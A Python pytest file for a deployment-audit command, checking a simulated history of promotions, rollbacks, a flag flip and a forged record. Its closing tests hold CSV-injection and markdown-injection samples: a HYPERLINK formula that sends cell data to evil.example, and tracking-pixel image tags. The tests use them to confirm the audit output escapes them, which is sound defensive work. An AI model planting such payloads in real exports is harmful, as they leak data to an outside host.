"""The audit (`cdhelper audit`): a history made with the real commands against the double (a gated
promotion with its approver and comment, a canary that failed and was rolled back by itself, a
rollback by hand, a flag flip, a record forged with another token) gives exactly the hand-written
table, as CSV and as JSON; at a flat cost in requests."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import datetime, timezone

import pytest

from tests.deploy.test_hardening import Forger
from tests.flags.test_flags import FLAGS, write_flags
from tests.progressive.test_rollouts import rollouts  # noqa: F401 - the fixture, asked for by name below

DAY = "2026-03-0{}T{}:00:00Z"


def at(double, day: int, hour: int) -> str:
    """Stop the double's clock at 2026-03-0DAY HOUR:00 UTC (every write of the step gets that time)."""
    when = DAY.format(day, f"{hour:02d}")
    stamp = datetime.fromisoformat(when.replace("Z", "+00:00")).timestamp()
    double.world.clock.now = lambda: stamp
    return when


@pytest.fixture
def story(pipeline, double, rollouts):  # noqa: F811 - the fixture imported above
    """The history of production in March 2026, and the facts the audit must report, by name."""
    configure, release, _ = rollouts
    configure(bad="2.0.0")
    write_flags(pipeline, "production", FLAGS)
    double.set_environment("acme/app", "production-approval", reviewers=["alice"], prevent_self_review=True)
    facts = {}

    facts["t_before"] = at(double, 1, 9)  # before the period: 0.9.0 is live (Continuous Deployment)
    (pipeline.artifact / "app.txt").write_text("build 0.9.0\n")
    assert pipeline.release("0.9.0").code == 0
    pipeline.new_run(100)
    assert pipeline.promote("staging", "0.9.0").code == 0
    assert pipeline.promote("production", "0.9.0").code == 0
    facts["t0"] = at(double, 2, 10)  # 1.0.0, gated: bob starts the run, alice approves
    (pipeline.artifact / "app.txt").write_text("build 1.0.0\n")
    pipeline.sha = double.world.add_commit(double.repo("acme/app"), "change 1.0.0", branch="main")
    assert pipeline.release("1.0.0").code == 0
    pipeline.new_run(200)
    double.create_run("acme/app", run_id=200, actor="bob", waiting_on=["production-approval"])
    assert pipeline.promote("staging", "1.0.0", mode="delivery", GITHUB_ACTOR="bob").code == 0
    double.review("acme/app", 200, "production-approval", "alice", comment="CAB-42 signed off")
    done = pipeline.promote("production", "1.0.0", mode="delivery", GITHUB_ACTOR="bob")
    assert done.code == 0, done.out
    facts["t1"] = at(double, 3, 11)  # 2.0.0's canary fails its analysis: the automatic rollback to 1.0.0
    (pipeline.artifact / "app.txt").write_text("build 2.0.0\n")
    pipeline.sha = double.world.add_commit(double.repo("acme/app"), "change 2.0.0", branch="main")
    assert pipeline.release("2.0.0").code == 0
    pipeline.new_run(300)
    assert pipeline.promote("staging", "2.0.0", GITHUB_ACTOR="carol").code == 0
    assert pipeline.promote("production", "2.0.0", GITHUB_ACTOR="carol").code == 11
    facts["t2"] = at(double, 4, 12)  # a flip of new-checkout, approved by alice in dave's run
    pipeline.new_run(400)
    double.create_run("acme/app", run_id=400, actor="dave", waiting_on=["production-approval"])
    double.review("acme/app", 400, "production-approval", "alice", comment="flip after the launch mail")
    flipped = pipeline.run("flags", "set", "new-checkout", "on", "--environment", "production", "--mode", "delivery",
                           GITHUB_ACTOR="dave")
    assert flipped.code == 0, flipped.out
    facts["t3"] = at(double, 5, 13)  # mallory's token writes a production record that looks like cdhelper's
    forged = {**pipeline.deployments("production")[-1]["payload"], "version": "6.6.6"}
    facts["forged"] = Forger(double).deployment("production", forged, pipeline.sha)
    facts["t4"] = at(double, 6, 14)  # erin rolls production back by hand to 0.9.0
    pipeline.new_run(500)
    assert pipeline.promote("production", "0.9.0", "--rollback", GITHUB_ACTOR="erin").code == 0
    at(double, 8, 0)
    records = {(d["payload"].get("version"), d["environment"], d["payload"].get("rollback_of") is not None,
                "flag_release" in d["payload"]): d for d in pipeline.deployments() if d["creator"] != "mallory"}
    facts["records"] = records
    return facts


def expected(f: dict) -> list[dict]:
    """The audit of production for March 2–7, written by hand from what the story did."""
    r = f["records"]
    staging1, staging2 = r["1.0.0", "staging", False, False], r["2.0.0", "staging", False, False]
    p090, p1, p2 = r["0.9.0", "production", False, False], r["1.0.0", "production", False, False], \
        r["2.0.0", "production", False, False]
    auto, flip, manual = r["1.0.0", "production", True, False], r["1.0.0", "production", False, True], \
        r["0.9.0", "production", True, False]
    c090, c1, c2 = p090["sha"], p1["sha"], p2["sha"]
    url = "https://github.example/acme/app/actions/runs/{}".format
    blank = {"decision": "", "rollback_of": "", "undid": "", "flag": "", "notes": "", "writer": "github-actions[bot]"}
    return [
        {**blank, "counted": "yes", "deployment_id": p1["id"], "created_at": f["t0"], "kind": "promotion",
         "version": "1.0.0", "digest": p1["payload"]["digest"], "commit_from": c090, "commit_to": c1,
         "approvers": f'alice (no later than {f["t0"]}): "CAB-42 signed off"', "gate": "approved on production-approval",
         "mode": "delivery", "evidence": f"staging record {staging1['id']}: 1.0.0, same digest, succeeded {f['t0']}",
         "triggered_by": "bob", "run_url": url(200), "state": "success", "finished_at": f["t0"]},
        {**blank, "counted": "yes", "deployment_id": p2["id"], "created_at": f["t1"], "kind": "promotion",
         "version": "2.0.0", "digest": p2["payload"]["digest"], "commit_from": c1, "commit_to": c2, "approvers": "",
         "gate": "no human gate (Continuous Deployment)", "mode": "deployment",
         "evidence": f"staging record {staging2['id']}: 2.0.0, same digest, succeeded {f['t1']}",
         "triggered_by": "carol", "run_url": url(300), "state": "failure", "finished_at": f["t1"]},
        {**blank, "counted": "yes", "deployment_id": auto["id"], "created_at": f["t1"], "kind": "automatic rollback",
         "version": "1.0.0", "digest": p1["payload"]["digest"], "commit_from": c2, "commit_to": c1, "approvers": "",
         "gate": "no human gate (Continuous Deployment)", "mode": "deployment",
         "evidence": f"rollback to a digest proven here: record {p1['id']} (1.0.0) succeeded {f['t0']}",
         "rollback_of": p2["id"],
         "undid": f"2.0.0 ({p2['payload']['digest']}) of record {p2['id']}, failure",
         "triggered_by": "carol", "run_url": url(300), "state": "success", "finished_at": f["t1"]},
        {**blank, "counted": "yes", "deployment_id": flip["id"], "created_at": f["t2"], "kind": "flag flip",
         "version": "1.0.0", "digest": p1["payload"]["digest"], "commit_from": c1, "commit_to": c1,
         "approvers": f'alice (no later than {f["t2"]}): "flip after the launch mail"',
         "gate": "approved on production-approval", "mode": "delivery",
         "evidence": "the release live in the environment (a flip deploys no code)", "flag": "new-checkout off -> on",
         "triggered_by": "dave", "run_url": url(400), "state": "success", "finished_at": f["t2"]},
        {**blank, "counted": "yes", "deployment_id": manual["id"], "created_at": f["t4"], "kind": "rollback by hand",
         "version": "0.9.0", "digest": p090["payload"]["digest"], "commit_from": c1, "commit_to": c090, "approvers": "",
         "gate": "no human gate (Continuous Deployment)", "mode": "deployment",
         "evidence": f"rollback to a digest proven here: record {p090['id']} (0.9.0) succeeded {f['t_before']}",
         "rollback_of": auto["id"],
         "undid": f"1.0.0 ({p1['payload']['digest']}) of record {auto['id']}, success",  # the release under the flip
         "triggered_by": "erin", "run_url": url(500), "state": "success", "finished_at": f["t4"]},
        {**{k: "" for k in blank}, "counted": "untrusted", "deployment_id": f["forged"], "created_at": f["t3"],
         "kind": "", "version": "6.6.6", "digest": p1["payload"]["digest"], "commit_from": "", "commit_to": "",
         "approvers": "", "gate": "", "mode": "", "evidence": "", "triggered_by": "", "run_url": "", "writer": "mallory",
         "state": "", "finished_at": "",
         "notes": f"deployment {f['forged']} in production was ignored: it was created by mallory, who is not a "
                  "trusted writer (github-actions[bot])"},
    ]


def test_the_csv_audit_is_the_hand_written_table(pipeline, double, story):
    out = pipeline.run("audit", "--environment", "production", "--since", "2026-03-02", "--until", "2026-03-07",
                       "--format", "csv", actions=False)
    assert out.code == 0, out.out + out.err
    table = [line for line in out.out.splitlines() if not line.startswith(("#", "::"))]  # "::" the runner's
    rows = [{k: (int(v) if k in {"deployment_id", "rollback_of"} and v else v) for k, v in row.items()}
            for row in csv.DictReader(io.StringIO("\n".join(table)))]
    want = expected(story)
    assert len(rows) == len(want)
    for got, row in zip(rows, want, strict=True):
        assert got == row, {k: (got.get(k), row.get(k)) for k in row if got.get(k) != row.get(k)}
    footer = [line for line in out.out.splitlines() if line.startswith("# ")]
    assert footer[0].startswith("# Audit of acme/app production from 2026-03-02T00:00:00Z to 2026-03-07T00:00:00Z: "
                                "5 change(s), 1 record(s) not counted")
    assert any("cannot be told from the pipeline's" in line for line in footer)


def test_the_json_audit_holds_the_same_changes_with_each_approver_apart(pipeline, story, tmp_path):
    target = tmp_path / "audit.json"
    out = pipeline.run("audit", "--since", "2026-03-02", "--until", "2026-03-07T00:00:00Z", "--format", "json",
                       "--output", str(target))
    assert out.code == 0, out.out
    data = json.loads(target.read_text())
    assert out.outputs["file"] == str(target)
    assert (data["environment"], data["since"], data["until"], data["complete"]) == \
        ("production", "2026-03-02T00:00:00Z", "2026-03-07T00:00:00Z", True)
    want = expected(story)
    assert [c["deployment_id"] for c in data["changes"]] == [w["deployment_id"] for w in want[:5]]
    for change, row in zip(data["changes"], want[:5], strict=True):
        flat = {**change, "counted": "yes", "notes": "; ".join(change["notes"]),
                "rollback_of": "" if change["rollback_of"] is None else change["rollback_of"],
                "approvers": "; ".join(f'{a["login"]} (no later than {a["no_later_than"]}): "{a["comment"]}"'
                                       for a in change["approvers"])}
        assert {k: flat[k] for k in row} == row
    assert data["changes"][0]["approvers"] == [{"login": "alice", "comment": "CAB-42 signed off", "at": None,
                                                "no_later_than": story["t0"]}]
    [forged] = data["untrusted"]
    assert (forged["deployment_id"], forged["writer"], forged["claimed_version"]) == (story["forged"], "mallory", "6.6.6")
    assert "Untrusted record ignored" in out.out and "## Audit: production of acme" in out.summary
    assert any("GitHub keeps no time" in line for line in data["limits"])


def test_a_period_before_anything_happened_has_no_change(pipeline, story):
    out = pipeline.run("audit", "--since", "2026-02-01", "--until", "2026-03-01", "--format", "markdown",
                       actions=False)
    assert out.code == 0, out.err
    assert "no change in the period" in out.out and "### What this audit can prove" in out.out


@pytest.mark.parametrize(("argv", "named"), [
    (("--since", "last tuesday"), "--since 'last tuesday' is not a date"),
    (("--since", "2026-03-01", "--until", "2026-13-01"), "--until '2026-13-01' is not a date"),
    (("--since", "2026-03-02", "--until", "2026-03-01"), "is not after --since"),
    (("--since", "2026-03-01", "--format", "xlsx"), "--format 'xlsx' is not a format of the audit"),
    ((), "--since is missing or empty"),
])
def test_a_bad_period_or_format_is_one_line_naming_the_value_and_the_fix(pipeline, double, argv, named):
    double.reset_log()
    out = pipeline.run("audit", *argv, actions=False)
    assert out.code == 2 and named in out.err and "Fix:" in out.err, out.err
    assert "Traceback" not in out.err and len(out.err.strip().splitlines()) == 1


def test_an_output_file_that_cannot_be_written_is_refused_before_github_is_asked(pipeline, double, tmp_path):
    double.reset_log()
    out = pipeline.run("audit", "--since", "2026-03-01", "--output", str(tmp_path / "missing" / "a.csv"), actions=False)
    assert out.code == 2 and "cannot be written" in out.err
    assert double.total_requests() == 0


def _seed(double, count: int) -> None:
    """`count` production records, each promoted from its own staging record, one an hour in March."""
    repo = double.repo("acme/app")
    start = datetime(2026, 3, 1, tzinfo=timezone.utc).timestamp()
    for i in range(count):
        run = {"id": 9000 + i, "attempt": 1, "url": f"https://github.com/acme/app/actions/runs/{9000 + i}", "actor": "bob"}
        common = {"cdhelper": 1, "version": f"1.0.{i}", "digest": f"sha256:{i:064x}", "commit": f"{i:040x}", "run": run,
                  "mode": "delivery", "gate": {"required": True, "environment": "production-approval",
                                               "approvers": [{"login": "alice", "comment": f"ok {i}"}]}}
        [staged] = double.world.seed_deployments(repo, 1, ["staging"], payload={**common, "environment": "staging"},
                                                 start=start + i * 3600)
        double.world.seed_deployments(repo, 1, ["production"], start=start + i * 3600 + 60, payload={
            **common, "environment": "production", "promoted_from": {"environment": "staging", "deployment_id": staged}})


@pytest.mark.parametrize(("count", "requests"), [(10, 1), (1000, 20)])
def test_the_audit_reads_one_request_per_hundred_records(pipeline, double, count, requests):
    _seed(double, count)
    double.reset_log()
    out = pipeline.run("audit", "--since", "2026-03-01", "--until", "2026-05-01", "--format", "json", actions=False)
    assert out.code == 0, out.err
    data = out.data
    assert len(data["changes"]) == count and data["complete"] is True
    assert all(c["evidence"].startswith("staging record ") and "same digest" in c["evidence"] for c in data["changes"])
    assert data["requests"] == requests and double.total_requests() == requests  # 2 × count records, 100 a page


# --- what the audit shows is text from outside: it must stay text where auditors open it ----------

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"details")'
PIXEL = '![seen](https://evil.example/p.png) <img src="https://evil.example/q.png">'


def _forged_after_an_approved_promotion(pipeline, double, *, version: str, comment: str) -> None:
    double.set_environment("acme/app", "production-approval", reviewers=["alice"], prevent_self_review=True)
    double.create_run("acme/app", run_id=4242, actor="bob", waiting_on=["production-approval"])
    assert pipeline.release().code == 0
    assert pipeline.promote("staging", mode="delivery").code == 0
    double.review("acme/app", 4242, "production-approval", "alice", comment=comment)
    assert pipeline.promote("production", mode="delivery", GITHUB_ACTOR="bob").code == 0
    forged = {**pipeline.deployments("production")[-1]["payload"], "version": version}
    Forger(double).deployment("production", forged, pipeline.sha)


def test_a_forged_record_or_a_comment_cannot_plant_a_formula_in_the_csv(pipeline, double):
    """CSV injection: a spreadsheet runs a cell that starts with = + - @ as a formula. A forged record's
    claimed version and a reviewer's comment are written so that it shows them as text."""
    _forged_after_an_approved_promotion(pipeline, double, version=FORMULA, comment="+SUM(1,2)")
    out = pipeline.run("audit", "--since", "2000-01-01", "--format", "csv", actions=False)
    assert out.code == 0, out.err
    table = [line for line in out.out.splitlines() if not line.startswith(("#", "::"))]
    rows = list(csv.DictReader(io.StringIO("\n".join(table))))
    forged = next(r for r in rows if r["counted"] == "untrusted")
    assert forged["version"] == "'" + FORMULA
    [change] = [r for r in rows if r["counted"] == "yes"]
    assert change["approvers"].startswith("alice") and '"+SUM(1,2)"' in change["approvers"]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())


def test_a_forged_record_cannot_put_links_images_or_html_in_the_summary(pipeline, double):
    _forged_after_an_approved_promotion(pipeline, double, version=PIXEL, comment="[approve here](https://evil.example)")
    out = pipeline.run("audit", "--since", "2000-01-01")
    assert out.code == 0, out.err
    assert "Not counted (untrusted)" in out.summary
    for planted in ("![seen](", "<img", "[approve here](", "](https://evil.example"):
        assert not re.search(r"(?<!\\)" + re.escape(planted), out.summary), planted  # only escaped: \<img
    assert "\\<img" in out.summary  # shown, as text


def test_reading_goes_past_the_period_until_what_was_live_before_it_is_found(pipeline, double):
    """The first change of the period names what was live before it (its commit range starts there);
    when that record sits pages further back than --since, the audit reads on to it, and no further."""
    repo = double.repo("acme/app")
    base = {"cdhelper": 1, "mode": "deployment", "gate": {"required": False}}
    day = datetime(2026, 3, 1, tzinfo=timezone.utc).timestamp()

    def run(n: int) -> dict:
        return {"id": n, "attempt": 1, "url": f"https://github.com/acme/app/actions/runs/{n}", "actor": "bob"}
    [old] = double.world.seed_deployments(repo, 1, ["production"], start=day, payload={
        **base, "version": "1.0.0", "digest": f"sha256:{1:064x}", "commit": "a" * 40, "environment": "production",
        "run": run(1)})
    for i in range(150):  # staging's busy fortnight, all before the period
        double.world.seed_deployments(repo, 1, ["staging"], start=day + 86400 + i * 600, payload={
            **base, "version": f"2.0.{i}", "digest": f"sha256:{i + 2:064x}", "commit": f"{i + 2:040x}",
            "environment": "staging", "run": run(100 + i)})
    staged = max(d for d in repo.deployments if repo.deployments[d]["environment"] == "staging")
    double.world.seed_deployments(repo, 1, ["production"], start=day + 20 * 86400, payload={
        **base, "version": "2.0.149", "digest": f"sha256:{151:064x}", "commit": f"{151:040x}",
        "environment": "production", "run": run(999), "previous": {"version": "1.0.0", "deployment_id": old},
        "promoted_from": {"environment": "staging", "deployment_id": staged}})
    double.reset_log()
    out = pipeline.run("audit", "--since", "2026-03-15", "--until", "2026-04-01", "--format", "json", actions=False)
    assert out.code == 0, out.err
    [change] = out.data["changes"]
    assert (change["commit_from"], change["commit_to"], change["previous_version"]) == ("a" * 40, f"{151:040x}", "1.0.0")
    assert change["evidence"].startswith(f"staging record {staged}: 2.0.149, same digest")
    assert double.total_requests() == 2  # 152 records: the page that reaches --since, and the one that holds 1.0.0
